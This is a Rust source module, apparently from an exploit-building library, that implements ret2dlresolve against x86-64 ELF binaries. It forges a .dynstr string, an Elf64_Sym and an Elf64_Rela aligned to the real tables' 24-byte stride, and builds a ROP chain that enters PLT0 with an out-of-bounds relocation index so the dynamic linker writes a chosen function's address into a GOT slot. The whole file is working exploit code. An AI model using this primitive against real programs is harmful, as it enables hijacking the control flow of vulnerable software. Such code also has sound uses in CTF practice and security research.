//! Resolution through fake entries appended after the real tables.
//!
//! Instead of forging a whole link map, this variant plants one fake
//! `.dynstr` string, one fake `Elf64_Sym`, and one fake `Elf64_Rela` in
//! attacker-controlled memory past the real tables, each aligned to the real
//! table's 24-byte stride so the linker's index arithmetic lands on them.
//! Resolution then runs the genuine PLT0 path with an out-of-bounds
//! relocation index, so the target must be a real symbol the linker can find
//! in its normal search order.

use anyhow::{anyhow, Result};
use object::elf::R_X86_64_JUMP_SLOT;

use crate::image::SectionTable;
use crate::utils::{push_u32, push_u64, stride_index};

/// Size of the PLT0-invoking ROP chain.
pub const ROP_CHAIN_SIZE: usize = 0x18;

/// Stride of both `Elf64_Sym` and `Elf64_Rela` entries.
const ENTRY_STRIDE: u64 = 24;

const PAD: u8 = b'A';

/// Builds the ROP chain and fake table data for one resolver invocation.
///
/// The returned data must be placed exactly at `fake_data_addr`; the entry
/// addresses encoded inside it are computed relative to that address. On
/// resolution, `target_func`'s address overwrites `got_func`'s GOT slot, so
/// later calls through that slot invoke the target.
pub fn resolve<B: SectionTable>(
    binary: &B,
    fake_data_addr: u64,
    got_func: &str,
    target_func: &str,
) -> Result<(Vec<u8>, Vec<u8>)> {
    let section = |name: &str| {
        binary
            .section_addr(name)
            .ok_or_else(|| anyhow!("section missing: {}", name))
    };
    let dynstr = section(".dynstr")?;
    let dynsym = section(".dynsym")?;
    let rela_plt = section(".rela.plt")?;
    let plt0 = section(".plt")?;
    let got_addr = binary
        .got_entry(got_func)
        .ok_or_else(|| anyhow!("GOT entry missing for '{}'", got_func))?;

    // Fake .dynstr entry: the target's name, right at the start of the blob.
    let mut data = Vec::new();
    data.extend_from_slice(target_func.as_bytes());
    data.push(0);
    let str_offset = fake_data_addr.wrapping_sub(dynstr);

    // Fake Elf64_Sym, padded up to the next 24-byte stride from .dynsym.
    let sym_index = stride_index(fake_data_addr + data.len() as u64, dynsym, ENTRY_STRIDE);
    let sym_addr = dynsym + sym_index * ENTRY_STRIDE;
    data.resize((sym_addr - fake_data_addr) as usize, PAD);
    push_u32(&mut data, str_offset as u32); // st_name
    push_u32(&mut data, 0); // st_info / st_other / st_shndx
    push_u64(&mut data, 0); // st_value
    push_u64(&mut data, 0); // st_size

    // Fake Elf64_Rela, padded up to the next 24-byte stride from .rela.plt.
    let rela_index = stride_index(fake_data_addr + data.len() as u64, rela_plt, ENTRY_STRIDE);
    let rela_addr = rela_plt + rela_index * ENTRY_STRIDE;
    data.resize((rela_addr - fake_data_addr) as usize, PAD);
    push_u64(&mut data, got_addr); // r_offset: the slot that receives the address
    push_u32(&mut data, R_X86_64_JUMP_SLOT);
    push_u32(&mut data, sym_index as u32);
    push_u64(&mut data, 0); // r_addend, ignored on the lazy path

    tracing::debug!(
        "fake tables at 0x{:x}: sym[{}] at 0x{:x}, rela[{}] at 0x{:x}",
        fake_data_addr, sym_index, sym_addr, rela_index, rela_addr
    );

    // PLT0 pushes the real link map and enters the resolver; the relocation
    // index comes from the chain, exactly as a PLT stub would push it. The
    // trailing zero is the return slot for the resolved function.
    let mut rop = Vec::with_capacity(ROP_CHAIN_SIZE);
    push_u64(&mut rop, plt0);
    push_u64(&mut rop, rela_index);
    push_u64(&mut rop, 0);

    Ok((rop, data))
}
